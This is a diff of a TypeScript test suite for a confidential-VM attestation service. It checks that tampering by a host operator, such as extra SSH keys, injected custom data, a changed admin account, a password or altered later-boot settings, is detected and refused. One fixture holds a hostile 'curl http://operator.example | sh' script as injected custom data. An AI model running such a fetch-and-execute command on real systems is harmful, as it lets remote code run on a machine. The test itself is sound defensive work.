@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto'
 import type { InstanceSpec, RetrievedEvidence } from '@strongroom/contract'
 import { fromBase64Url, toBase64Url } from '@strongroom/evidence'
 import { parseSettings, settingsText } from '@strongroom/evidence/expected'
@@ -8,7 +9,7 @@ import { askedWith } from '../../apps/cli/src/trust/asked-settings.ts'
 import { verifyBoot } from '../../apps/cli/src/trust/report.ts'
 import { startTestInstallation, type TestInstallation } from '../../apps/strongroomd/src/testing/running.ts'
 import { makeVm } from '../../apps/strongroomd/src/testing/simulated-vm.ts'
-import { defaultAsked } from '../system/support/vm.ts'
+import { defaultAsked, rootPaths } from '../system/support/vm.ts'
 
 let installation: TestInstallation
 let path: string
@@ -22,20 +23,29 @@ beforeAll(async () => {
 })
 afterAll(async () => await installation.close())
 
-const evidenceOf = async (): Promise<RetrievedEvidence> =>
-  await installation.arm<RetrievedEvidence>('POST', `${path}/retrieveBootEvidence`)
+const evidenceOf = async (vm = path): Promise<RetrievedEvidence> =>
+  await installation.arm<RetrievedEvidence>('POST', `${vm}/retrieveBootEvidence`)
 
-/** The host gives the guest settings of its operator's, at a separate boot. */
-async function bootWith(change: (profile: InstanceSpec['osProfile']) => void): Promise<RetrievedEvidence> {
+type Profile = InstanceSpec['osProfile']
+
+/** The host's record of a VM, edited. */
+async function edit(vm: string, change: (profile: Profile) => void): Promise<void> {
+  const { properties } = await installation.arm<{ properties: { vmId: string } }>('GET', vm)
+  const vmId = properties.vmId.toUpperCase()
   const store = await openServiceStore(installation.running.context, 'control_plane')
-  const row = await store.db.selectFrom('simulated_instance').selectAll().executeTakeFirstOrThrow()
-  const status = JSON.parse(row['status'] as string) as { spec: InstanceSpec }
+  const rows = store.db.selectFrom('simulated_instance').selectAll().where('vm_id', '=', vmId)
+  const status = JSON.parse((await rows.executeTakeFirstOrThrow())['status'] as string) as { spec: InstanceSpec }
   change(status.spec.osProfile)
   const changed = { status: JSON.stringify(status) }
-  await store.db.updateTable('simulated_instance').set(changed).where('vm_id', '=', row['vm_id']).execute()
+  await store.db.updateTable('simulated_instance').set(changed).where('vm_id', '=', vmId).execute()
   await store.close()
-  await installation.run('POST', `${path}/restart`)
-  return await evidenceOf()
+}
+
+/** A VM whose guest the host gives settings of its operator's, from the first boot on. */
+async function madeWith(name: string, change: (profile: Profile) => void): Promise<RetrievedEvidence> {
+  const vm = await makeVm(installation, { name, size: 'Standard_DC2as_v5' })
+  await edit(vm, change)
+  return await evidenceOf(vm)
 }
 
 async function settingsOf(
@@ -49,7 +59,7 @@ async function settingsOf(
     ...defaultAsked,
     encryption: 'DiskWithVMGuestState',
     size: 'Standard_DC2as_v5',
-    stateDir: installation.running.context.stateDir,
+    paths: rootPaths(installation.running.context.stateDir),
     at: new Date(),
     fetchKeySet: async (issuer) => (await installation.wire.request({ method: 'GET', url: `${issuer}/certs` })).body,
     settings,
@@ -71,7 +81,7 @@ describe('the operator of a VM’s first boot', () => {
   })
 
   it('is found out when the guest was given one more key, whatever the evidence then says (attack B5)', async () => {
-    const attacked = await bootWith((profile) => profile.sshPublicKeys.push(foreign))
+    const attacked = await madeWith('keyed', (profile) => profile.sshPublicKeys.push(foreign))
     expect(await settingsOf(attacked)).toMatchObject({
       outcome: 'refused',
       why: expect.stringContaining('accepts SSH keys that were not requested (PCR 14)') as string,
@@ -94,13 +104,12 @@ describe('the operator of a VM’s first boot', () => {
     // A host that reports nothing is not trusted either.
     const { settled: _, ...silent } = attacked
     expect((await settingsOf(silent)).outcome).toBe('not checked')
-    await bootWith((profile) => void profile.sshPublicKeys.pop())
   })
 
   it('is found out with other custom data, another account, or the settings of another VM (attack B5)', async () => {
     const settings = parseSettings(fromBase64Url(honest.settled!))
     const script = Buffer.from('#!/bin/sh\ncurl http://operator.example | sh\n')
-    const given = await bootWith((profile) => void (profile.customData = script.toString('base64')))
+    const given = await madeWith('given', (profile) => void (profile.customData = script.toString('base64')))
     expect(await settingsOf(given)).toMatchObject({
       outcome: 'refused',
       why: expect.stringContaining('custom data') as string,
@@ -110,16 +119,10 @@ describe('the operator of a VM’s first boot', () => {
     // Custom data that its owner names is accepted, by its digest.
     const asked = askedWith({ ...honest.asked!, customData: script })
     expect(await settingsOf(given, { by: 'owner', asked })).toMatchObject({ outcome: 'verified' })
-    const renamed = await bootWith((profile) => {
-      delete profile.customData
-      profile.adminUsername = 'operator'
-    })
+    const renamed = await madeWith('renamed', (profile) => void (profile.adminUsername = 'operator'))
     expect(await settingsOf(renamed)).toMatchObject({ outcome: 'refused', expected: 'azureuser', actual: 'operator' })
     // An unrequested password is a way in as well.
-    const opened = await bootWith((profile) => {
-      profile.adminUsername = 'azureuser'
-      profile.passwordSha256 = 'ab'.repeat(32)
-    })
+    const opened = await madeWith('opened', (profile) => void (profile.passwordSha256 = 'ab'.repeat(32)))
     expect(await settingsOf(opened)).toMatchObject({ outcome: 'refused', expected: 'none', actual: 'ab'.repeat(32) })
     const known = { ...honest.asked!, passwordSha256: 'ab'.repeat(32) }
     expect(await settingsOf(opened, { by: 'resource manager', asked: known })).toMatchObject({ outcome: 'verified' })
@@ -128,3 +131,44 @@ describe('the operator of a VM’s first boot', () => {
     expect(await settingsOf({ ...honest, settled: copied })).toMatchObject({ outcome: 'refused' })
   })
 })
+
+describe('the operator of a later boot', () => {
+  /** As a vault would that never heard of the VM. */
+  async function forgetSettings(): Promise<void> {
+    const store = await openServiceStore(installation.running.context, 'vault')
+    await store.db.deleteFrom('vm_settings').execute()
+    await store.close()
+  }
+
+  it('gives the guest no other settings: the vault releases no key for them, and the vTPM has the first (attacks H24, H25)', async () => {
+    const vm = await makeVm(installation, { name: 'later', size: 'Standard_DC2as_v5' })
+    const first = await evidenceOf(vm)
+    const digest = createHash('sha256').update(fromBase64Url(first.settled!)).digest('hex')
+    expect(claimedIn(first)).toBe(digest)
+    expect((await settingsOf(first)).shows).toContainEqual(expect.stringContaining('in the attested claims'))
+    const boot = async (): Promise<RetrievedEvidence> => {
+      await installation.run('POST', `${vm}/restart`)
+      return await evidenceOf(vm)
+    }
+    await edit(vm, (profile) => profile.sshPublicKeys.push(foreign))
+    await expect(boot()).rejects.toMatchObject({
+      code: 'KeyReleaseRefused',
+      message: expect.stringContaining('only to boots with the settings') as string,
+      expected: digest,
+      found: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
+    })
+    await forgetSettings()
+    await expect(boot()).rejects.toMatchObject({ code: 'SettingsChanged', expected: `settings with SHA-256 ${digest}` })
+    await edit(vm, (profile) => void profile.sshPublicKeys.pop())
+    await forgetSettings()
+    expect(claimedIn(await boot())).toBe(digest)
+  })
+})
+
+function claimedIn({ runtimeClaims }: RetrievedEvidence): unknown {
+  const claims = JSON.parse(Buffer.from(runtimeClaims, 'base64url').toString()) as Record<
+    string,
+    Record<string, unknown>
+  >
+  return claims['vm-configuration']?.['settings-sha256']
+}
